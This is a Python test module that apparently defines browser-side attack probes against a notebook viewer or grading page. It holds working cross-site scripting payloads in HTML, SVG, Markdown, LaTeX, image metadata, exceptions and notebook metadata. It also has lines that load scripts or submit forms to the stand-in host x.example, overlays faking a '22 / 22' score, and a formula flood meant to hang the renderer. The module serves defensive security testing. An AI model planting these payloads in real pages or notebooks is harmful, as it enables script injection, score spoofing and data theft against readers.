"""Attacks aimed at the browser of whoever reads the notebook: script, foreign images and forms in what a cell puts out.

All but the last few are probes that share a notebook. Each carries its own token, so that what is alive in a page can be
told from what is only text (`html.py`).
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from trials.attacks.attack import Attack
from trials.attacks.honest import OWN_DISPLAY
from trials.attacks.tables.submission import with_cells


def displayed(name: str, *data: Mapping[str, object], metadata: str = "{}") -> Attack:
    """A cell that puts out something of these types."""
    code = "from IPython.display import display\n" + "".join(
        f"display({dict(each)!r}, raw=True, metadata={metadata})\n" for each in data
    )
    return Attack(name, "browser", OWN_DISPLAY, probe=f"{code}tried()\n")


def html(name: str, *texts: str) -> Attack:
    return displayed(name, *({"text/html": text, "text/plain": "x"} for text in texts))


def written(name: str, text: str) -> Attack:
    """A cell of text in Markdown."""
    return Attack(name, "browser", OWN_DISPLAY, markdown=text)


SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(\"@TOKEN@\")'><script>alert('@TOKEN@')</script>"
    "<a xlink:href='javascript:@TOKEN@'>x</a></svg>"
)


def strange_names(notebook: dict[str, list[dict[str, object]]]) -> None:
    evil = "\"><script>alert('@TOKEN@')</script>"
    for cell in notebook["cells"]:
        if str(cell.get("id", "")).endswith("-markdown"):
            cell["metadata"] = {"tags": [evil], "name": evil}
            cell["attachments"] = {"a.png": {f"image/png{evil}": "eA=="}}


def strange_metadata(notebook: dict[str, Any]) -> None:
    evil = "x\"><img src=x onerror=@TOKEN@()><script>alert('@TOKEN@')</script>"
    state = {"state": {"x": {"model_module": f"</script>{evil}"}}, "version_major": 2, "version_minor": 0}
    notebook["metadata"].update(
        title=evil, authors=[{"name": evil}], widgets={"application/vnd.jupyter.widget-state+json": state},
        language_info={"name": "python", "pygments_lexer": evil, "codemirror_mode": evil},
    )  # fmt: skip
    for cell in notebook["cells"]:
        cell["metadata"].update(magics_language=evil, slideshow={"slide_type": evil}, raw_mimetype="text/html")
    raw = {"cell_type": "raw", "id": "raw", "metadata": {"format": "text/html"}, "source": f"<p>{evil}</p>"}
    notebook["cells"].append(raw)


ATTACKS = (
    html(
        "script in HTML", "<b>x</b><script>alert('@TOKEN@')</script>", "<script src='//x.example/@TOKEN@.js'></script>"
    ),
    html(
        "event handlers in HTML",
        "<img src=x onerror=\"alert('@TOKEN@')\"><div onmouseover='@TOKEN@()'>x</div>",
        "<details open ontoggle=\"alert('@TOKEN@')\"><p/onclick=@TOKEN@()>x</details><body onload=@TOKEN@()>",
    ),
    html(
        "links that are script",
        "<a href=\"javascript:alert('@TOKEN@')\">x</a><a href=' jAvAsCrIpT&#58;@TOKEN@'>x</a>",
        "<a href='data:text/html,<script>@TOKEN@</script>'>x</a><a href='java\tscript:@TOKEN@'>x</a>",
    ),
    html(
        "frames, objects and embedded pages",
        "<iframe src='http://x.example/@TOKEN@'></iframe><iframe srcdoc='<script>@TOKEN@</script>'></iframe>",
        "<object data='http://x.example/@TOKEN@'></object><embed src='//x.example/@TOKEN@'>",
    ),
    html(
        "images and styles from elsewhere",
        "<img src='http://x.example/@TOKEN@.png'><img srcset='//x.example/@TOKEN@ 2x'>",
        "<div style=\"background:url('http://x.example/@TOKEN@')\">x</div><video poster='http://x.example/@TOKEN@'></video>",
        "<link rel=stylesheet href='http://x.example/@TOKEN@.css'><style>@import '//x.example/@TOKEN@';</style>",
    ),
    html(
        "a style that covers the page, a form, a base, a refresh",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>22 / 22 @TOKEN@</div>",
        "<form action='http://x.example/@TOKEN@'><input name=score value='@TOKEN@'><button formaction='//@TOKEN@'>x</form>",
        "<base href='http://x.example/@TOKEN@/'><meta http-equiv=refresh content='0;url=http://x.example/@TOKEN@'>",
    ),
    html(
        "links over the page by its own classes",
        "<a class='modal-backdrop' href='https://x.example/@TOKEN@'></a><div class='navbar-fixed-top'>22 / 22 @TOKEN@</div>",
        "<a class='affix MODAL-BACKDROP modal' title='@TOKEN@' href='https://x.example/@TOKEN@'>x</a>",
    ),
    html(
        "links that flow out of their box",
        "<div title='@TOKEN@' style='height:1px'><a href='https://x.example/@TOKEN@'>x<br>x<br>x</a></div>",
        "<a title='@TOKEN@' style='margin-top:-90px;display:block;transform:scale(9);float:left' href='//x.example'>x</a>",
    ),
    html(
        "markup that is broken so that it heals into script",
        "<scr<script>ipt>alert('@TOKEN@')</scr</script>ipt>",
        "<svg><style><!--</style><img src=x onerror=@TOKEN@()>--></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=@TOKEN@()></style></mglyph></table></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=@TOKEN@()>'></noscript>",
        "</div></div></div></body><script>@TOKEN@</script><!-- <textarea>",
    ),
    displayed(
        "JavaScript as a type of output",
        {"application/javascript": "alert('@TOKEN@')"},
        {"text/javascript": "alert('@TOKEN@')"},
        {"application/ecmascript": "alert('@TOKEN@')"},
    ),
    displayed("script in SVG", {"image/svg+xml": SVG}, {"text/html": SVG}),
    displayed(
        "script in Markdown that a cell puts out",
        {
            "text/markdown": "<script>alert('@TOKEN@')</script>\n\n[x](javascript:@TOKEN@) ![x](http://x.example/@TOKEN@.png)"
        },
    ),
    displayed(
        "script in LaTeX",
        {"text/latex": "$\\href{javascript:alert('@TOKEN@')}{x}$</div><script>alert('@TOKEN@')</script>"},
        {"text/html": "<p>$\\href{javascript:alert('@TOKEN@')}{x}$</p>"},
    ),
    displayed(
        "an image that is none",
        {"image/png": 'x" onerror="alert(\'@TOKEN@\')" x="'},
        {"image/jpeg": "\"><script>alert('@TOKEN@')</script>"},
    ),
    displayed(
        "script in an image's size and description",
        {"image/png": "eA=="},
        metadata=repr(
            {
                "image/png": {
                    "width": "1 onerror=@TOKEN@()",
                    "height": "1 onload=@TOKEN@()",
                    "alt": '"><script>@TOKEN@</script>',
                },
                "width": "1 onerror=@TOKEN@()",
                "alt": '" onload="@TOKEN@()',
            }
        ),
    ),
    displayed(
        "a page in a frame of its own",
        {"text/html": "<script>alert('@TOKEN@')</script>"},
        metadata=repr({"text/html": {"isolated": True}, "isolated": True}),
    ),
    displayed(
        "a widget, a PDF, a diagram and a Vega plot with script",
        {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert('@TOKEN@')</script>"}},
        {"application/pdf": "@TOKEN@"},
        {"text/vnd.mermaid": "graph TD; A[<img src=x onerror=@TOKEN@()>]"},
        {"application/vnd.vega.v5+json": {"data": [{"url": "http://x.example/@TOKEN@"}]}},
    ),
    Attack(
        "script in what is printed, on both streams",
        "browser",
        OWN_DISPLAY,
        probe="import sys\nfor out in (sys.stdout, sys.stderr):\n"
        "    print(\"<script>alert('@TOKEN@')</script>\\x1b[31m<img src=x onerror=@TOKEN@()>\\x1b[0m\", file=out)\ntried()\n",
    ),
    Attack(
        "script in an exception's name, text and traceback",
        "browser",
        OWN_DISPLAY,
        probe="""
tried()
class Odd(Exception):
    def _render_traceback_(self):
        return ["<script>alert('@TOKEN@')</script>", "\\x1b[31m<img src=x onerror=@TOKEN@()>\\x1b[0m"]
Odd.__name__ = "<img src=x onerror=@TOKEN@()>"
raise Odd("<script>alert('@TOKEN@')</script>")
""",
    ),
    Attack(
        "script in the variables and errors that a verdict shows",
        "browser",
        OWN_DISPLAY,
        {
            "model-home": """
import os
evil = "<img src=x onerror=@TOKEN@()><script>alert('@TOKEN@')</script>`<b>`"
os.environ["HF_HOME"] = evil
answers = {evil: evil}
result = boat = evil
llm = type(evil, (), {})()
class Raises:
    def __call__(self, value): raise type(evil, (Exception,), {})(evil)
chatbot = Raises()
from langchain_core.prompts import ChatPromptTemplate
prompt = ChatPromptTemplate([("system", evil), ("placeholder", "{x}")])
tried()
"""
        },
    ),
    written("script in Markdown", "<script>alert('@TOKEN@')</script>\n\n<img src=x onerror=\"alert('@TOKEN@')\">"),
    written(
        "links and images in Markdown",
        "[x](javascript:alert('@TOKEN@')) [y](<javascript:@TOKEN@>) ![z](http://x.example/@TOKEN@.png)\n\n"
        '[r]: javascript:@TOKEN@\n\n[click][r] <javascript:@TOKEN@> ![a](x"onerror="@TOKEN@)',
    ),
    written(
        "frames, forms and styles in Markdown",
        "<iframe src='http://x.example/@TOKEN@'></iframe>\n\n<form action='//x.example/@TOKEN@'><input></form>\n\n"
        "<div style='position:fixed;inset:0'>@TOKEN@</div>\n\n<style>body{background:url(//x.example/@TOKEN@)}</style>",
    ),
    written(
        "formulas with links in Markdown",
        "$\\href{javascript:alert('@TOKEN@')}{x}$ and $$\\href{javascript:@TOKEN@}{y}$$",
    ),
    written(
        "code and headings with script in Markdown",
        '# <img src=x onerror=@TOKEN@()>\n\n```html" onload="@TOKEN@\n<script>@TOKEN@</script>\n```\n\n'
        "`<script>@TOKEN@</script>`\n\n| <svg onload=@TOKEN@()> |\n|---|\n| x |",
    ),
    Attack(
        "formulas that begin and never end in Markdown",
        "browser",
        OWN_DISPLAY,
        markdown="@TOKEN@ " + "\\\\(\\\\[\\begin{a}" * 50_000,
        alone=True,
    ),
    Attack(
        "script in a notebook's language, title, widgets and raw cells",
        "browser",
        OWN_DISPLAY,
        probe="tried()\n",
        alone=True,
        solved=True,
        change=with_cells(strange_metadata),
    ),
    Attack(
        "script in a cell's tags and attachments",
        "browser",
        OWN_DISPLAY,
        probe="tried()\n",
        markdown="![x](attachment:a.png)",
        alone=True,
        solved=True,
        change=with_cells(strange_names),
    ),
)
